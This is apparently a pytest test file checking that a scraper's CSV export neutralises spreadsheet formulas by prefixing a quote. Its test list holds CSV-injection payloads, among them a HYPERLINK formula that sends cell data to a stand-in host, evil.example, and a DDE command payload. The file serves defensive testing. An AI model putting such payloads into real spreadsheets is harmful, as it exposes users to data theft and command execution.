"""CSV export cannot carry a formula into a spreadsheet (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
import json

import httpx
import pytest
from scraper_manager.runs.export import csv_cell
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from tests.factories import make_client, scraper_body

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [("plain", "plain"), ("a=b", "a=b"), (None, ""), (-5, "-5"), (["=x"], '["=x"]'), ("", "")],
)
def test_other_cells_are_written_as_they_are(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


async def test_the_csv_export_neutralises_crawled_formulas(
    client: httpx.AsyncClient, db_engine: AsyncEngine
) -> None:
    who = await make_client(db_engine, "read")
    writer = await make_client(db_engine, "write", owner=who.owner)
    scraper = (
        await client.post(
            "/api/v1/scrapers",
            json=scraper_body(selectors={"title": "title::text"}),
            headers=writer.headers,
        )
    ).json()
    async with db_engine.begin() as conn:
        run_id = await conn.scalar(
            text(
                "INSERT INTO runs (scraper_id, owner, status, trigger, created_at, items_collected,"
                " pages_fetched, requests_failed, retries, bytes_received, status_counts,"
                " stop_requested) VALUES (:s, :o, 'completed', 'manual', now(), :n, 1, 0, 0, 0,"
                " '{}', false) RETURNING id"
            ),
            {"s": scraper["id"], "o": who.owner, "n": len(FORMULAS)},
        )
        for value in FORMULAS:
            await conn.execute(
                text(
                    "INSERT INTO items (run_id, scraper_id, url, data, created_at)"
                    " VALUES (:r, :s, :u, CAST(:d AS jsonb), now())"
                ),
                {
                    "r": run_id,
                    "s": scraper["id"],
                    "u": "=1+1",
                    "d": json.dumps({"title": value}),
                },
            )
    exported = await client.get(
        f"/api/v1/scrapers/{scraper['id']}/results?format=csv", headers=who.headers
    )
    rows = list(csv.reader(io.StringIO(exported.text, newline="")))
    assert rows[0] == ["url", "title"]
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + v for v in FORMULAS)
    assert all(row[0] == "'=1+1" for row in rows[1:])
